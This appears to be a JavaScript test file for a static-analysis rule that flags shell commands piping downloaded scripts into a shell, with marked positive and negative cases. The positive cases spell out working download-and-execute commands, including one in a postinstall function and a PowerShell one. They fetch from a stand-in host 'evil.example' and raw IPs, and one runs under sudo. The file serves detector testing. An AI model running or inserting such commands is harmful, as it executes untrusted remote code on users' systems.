const { exec, execSync, spawn } = require('child_process');
const os = require('os');

// ruleid: js-exec-curl-pipe-shell
exec('curl -fsSL http://185.199.1.4/setup.sh | sh', () => {});

function postinstall(host) {
  // ruleid: js-exec-curl-pipe-shell
  execSync(`wget -qO- http://${host}/stage2 | bash`);
  // ruleid: js-exec-curl-pipe-shell
  spawn('sh', ['-c', 'curl -s https://evil.example/p.sh | sudo bash'], { detached: true });
  // ruleid: js-exec-curl-pipe-shell
  spawn('/bin/bash', ['-c', 'bash <(curl -fsSL https://evil.example/x)']);
}

if (os.platform() === 'win32') {
  // ruleid: js-exec-curl-pipe-shell
  exec("powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a.ps1')\"");
}

// ok: js-exec-curl-pipe-shell
exec('curl -fsSL -o /tmp/tool.tgz https://example.com/tool.tgz', () => {});
// ok: js-exec-curl-pipe-shell
execSync('curl -s https://api.github.com/repos/org/repo | jq .stargazers_count');
// ok: js-exec-curl-pipe-shell
spawn('curl', ['-fsSL', 'https://example.com/data.json']);
// ok: js-exec-curl-pipe-shell
console.log('Install with: curl -fsSL https://example.com/install.sh | sh');
